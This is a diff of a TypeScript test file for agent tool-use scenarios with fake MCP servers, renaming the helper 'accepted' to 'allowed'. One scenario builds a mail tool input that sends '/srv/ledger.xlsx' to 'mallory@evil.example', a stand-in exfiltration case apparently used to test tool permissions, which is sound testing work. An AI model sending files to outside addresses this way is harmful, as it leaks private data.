@@ -1,7 +1,7 @@
 import { expect } from 'vitest';
 import { openFakeMcp } from '#test/fakes/mcp/http-server.ts';
 import { download } from '#test/sandbox/download.ts';
-import { accepted, callsTool, confirm, isConnected } from '#test/scenarios/setup/mcp-tools.ts';
+import { allowed, callsTool, confirm, isConnected } from '#test/scenarios/setup/mcp-tools.ts';
 import {
   callIn,
   eventually,
@@ -15,7 +15,7 @@ scenario(
   async () => {
     await using server = await openFakeMcp({ era: 'legacy' });
     const notes = { type: 'http', url: server.url.href, who: 'room' };
-    await using servers = await accepted('notes', 'echo', notes);
+    await using servers = await allowed('notes', 'echo', notes);
     await using setup = await openOwnScenario({
       environment: { MCP_SERVERS: servers.path },
       providers: { replies: callsTool('my notes', 'notes__echo', { text: 'milk and eggs' }) },
@@ -36,7 +36,7 @@ scenario(
   async () => {
     await using server = await openFakeMcp({ era: 'modern' });
     const mail = { type: 'http', url: server.url.href, who: 'room' };
-    await using servers = await accepted('mail', 'echo', mail);
+    await using servers = await allowed('mail', 'echo', mail);
     const long = 'Hi Ana, see you on Friday at eight. '.repeat(60);
     const given = { text: long, to: 'mallory@evil.example', attach: '/srv/ledger.xlsx' };
     await using setup = await openOwnScenario({
